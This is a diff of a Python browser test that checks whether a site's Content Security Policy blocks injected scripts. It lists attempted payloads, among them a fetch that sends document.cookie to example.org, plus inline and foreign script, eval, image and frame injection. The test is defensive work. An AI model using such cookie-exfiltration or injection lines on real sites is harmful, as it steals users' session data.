@@ -5,72 +5,29 @@ test_pages.py uses every page under it, test_counted.py takes files along: none 
 
 import pytest
 
-from tests.browser.conftest import PATIENCE, painted, settle
+from tests.browser.conftest import painted
 
-LISTENER = """document.addEventListener('securitypolicyviolation', event =>
-    window.violated(event.violatedDirective + ' ' + event.blockedURI))"""
-
-
-@pytest.fixture(scope="module")
-def window(chromium):
-    """One window in which the browser's own reports of violations are collected."""
-    context = chromium.new_context(viewport={"width": 1440, "height": 900})
-    context.set_default_timeout(PATIENCE)
-    found: list[str] = []
-    context.expose_function("violated", lambda text: found.append(text))
-    context.add_init_script(LISTENER)
-    page = context.new_page()
-    page.on(
-        "console",
-        lambda message: (
-            found.append(message.text) if "Content Security Policy" in message.text else None
-        ),
-    )
-    yield page, found
-    context.close()
+ELEMENT = "document.body.append(Object.assign(document.createElement('{}'), {}))"
+ATTEMPTS = {
+    "inline script": ELEMENT.format("script", "{textContent: 'window.ran = 1'}"),
+    "foreign script": ELEMENT.format("script", "{src: 'https://example.org/x.js'}"),
+    "eval": "setTimeout('window.ran = 1')",
+    "sending data away": "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
+    "foreign image": ELEMENT.format("img", "{src: 'https://example.org/x.png'}"),
+    "foreign frame": ELEMENT.format("iframe", "{src: 'https://example.org/'}"),
+}
 
 
-@pytest.mark.parametrize(
-    "attempt",
-    [
-        (
-            "document.head.append(Object.assign("
-            "document.createElement('script'), {textContent: 'window.ran = 1'}))"
-        ),
-        (
-            "document.head.append(Object.assign("
-            "document.createElement('script'), {src: 'https://example.org/x.js'}))"
-        ),
-        "setTimeout('window.ran = 1')",
-        "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
-        (
-            "document.body.append(Object.assign("
-            "document.createElement('img'), {src: 'https://example.org/x.png'}))"
-        ),
-        (
-            "document.body.append(Object.assign("
-            "document.createElement('iframe'), {src: 'https://example.org/'}))"
-        ),
-    ],
-    ids=[
-        "inline script",
-        "foreign script",
-        "eval",
-        "sending data away",
-        "foreign image",
-        "foreign frame",
-    ],
-)
-def test_the_policy_stops_what_an_injected_script_would_do(window, address, attempt):
-    page, found = window
-    if not page.url.startswith(f"{address}/method"):
-        page.goto(f"{address}/method?lang=en")
-        settle(page)
-    found.clear()
-    page.evaluate(f"() => {{ {attempt} }}")
-    for _ in range(100):
-        if found:
-            break
-        painted(page)
-    assert found
-    assert not page.evaluate("window.ran")
+def test_the_policy_stops_what_an_injected_script_would_do(visit, address):
+    page, told = visit(f"{address}/method?lang=en", alone=True, bypass_csp=False), []
+    page.on("console", lambda line: told.append(line.text))
+    for name, attempt in ATTEMPTS.items():
+        told.clear()
+        page.evaluate(f"() => {{ {attempt} }}")
+        for _ in range(100):
+            if any("Content Security Policy" in text for text in told):
+                break
+            painted(page)
+        else:
+            pytest.fail(name)
+        assert not page.evaluate("window.ran"), name
